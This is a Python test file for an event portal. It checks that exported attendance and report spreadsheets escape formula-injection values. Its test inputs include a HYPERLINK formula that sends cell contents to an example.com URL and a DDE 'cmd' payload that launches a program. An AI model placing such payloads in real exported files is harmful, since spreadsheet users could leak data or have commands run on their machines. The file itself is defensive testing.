"""View tests: downloaded spreadsheets (attendance lists, the report) never hold a live formula."""
import csv
import io

from openpyxl import load_workbook

from portal import clock, sheets
from portal.catalogue import current_campaign
from portal.extensions import db
from tests.factories import gen_registration_now, gen_user, open_event

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://example.com/x?"&A4,"Bấm vào đây")'
NAMES = ["-Nguyễn Thị Lan", "=1+2", "@SUM(A1:A9)", "+84 Trần Văn Hùng", "\tLê Thị Mai"]


def _attendance(client, auth):
    event = open_event(title=TITLE)
    for number, name in enumerate(NAMES):
        gen_registration_now(event, full_name=name, phone=f"091234567{number}")
    gen_user("admin", role="admin")
    auth.login("admin")
    url = f"/dashboard/events/{event.slug}/attendance"
    return client.get(url + ".xlsx?phones=1"), client.get(url + ".csv?phones=1")  # phone numbers too: all cells


def _cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_attendance_xlsx_has_no_formula_and_keeps_the_text_readable(ctx, client, auth):
    """Does an event titled =HYPERLINK(…) become a live link in the organiser's spreadsheet?"""
    xlsx, _csv = _attendance(client, auth)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cells = _cells(sheet)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)]
    assert sheet["A1"].value == "'" + TITLE
    names = {cell.value for cell in sheet["A"][3:]}
    assert names == {"'" + name for name in NAMES}
    assert all(isinstance(cell.value, int) for cell in sheet["C"][3:])  # years of birth stay numbers


def test_attendance_csv_cells_cannot_start_a_formula(ctx, client, auth):
    _xlsx, response = _attendance(client, auth)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert not [value for row in rows for value in row if value.startswith(DANGEROUS)]
    assert {row[0] for row in rows[1:]} == {"'" + name for name in NAMES}
    assert rows[0][4] == "Điện thoại" and rows[1][4].startswith("091234567")


def test_report_title_from_the_campaign_cannot_become_a_formula(ctx, client, auth):
    campaign = current_campaign(clock.now().date())
    campaign.theme = "=cmd|' /C calc'!A0"
    db.session.commit()
    gen_user("admin", role="admin")
    auth.login("admin")
    sheet = load_workbook(io.BytesIO(client.get("/dashboard/report.xlsx").data)).active
    cells = _cells(sheet)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)]
    assert "=cmd|' /C calc'!A0" in sheet["A2"].value and sheet["A1"].font.bold
    assert isinstance(sheet["C6"].value, int) and sheet["A6"].value == 1  # counts stay numbers
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/report.csv").data.decode("utf-8-sig"))))
    assert not [value for row in rows for value in row if value.startswith(DANGEROUS)]


def test_text_with_control_characters_still_makes_a_workbook():
    """Rows saved before the request guard existed may hold control characters openpyxl refuses to write."""
    sheet = load_workbook(io.BytesIO(sheets.to_xlsx([["Lan\x01\x08", 1990, None, "-5"]]))).active
    assert [cell.value for cell in sheet[1]] == ["Lan", 1990, None, "'-5"]
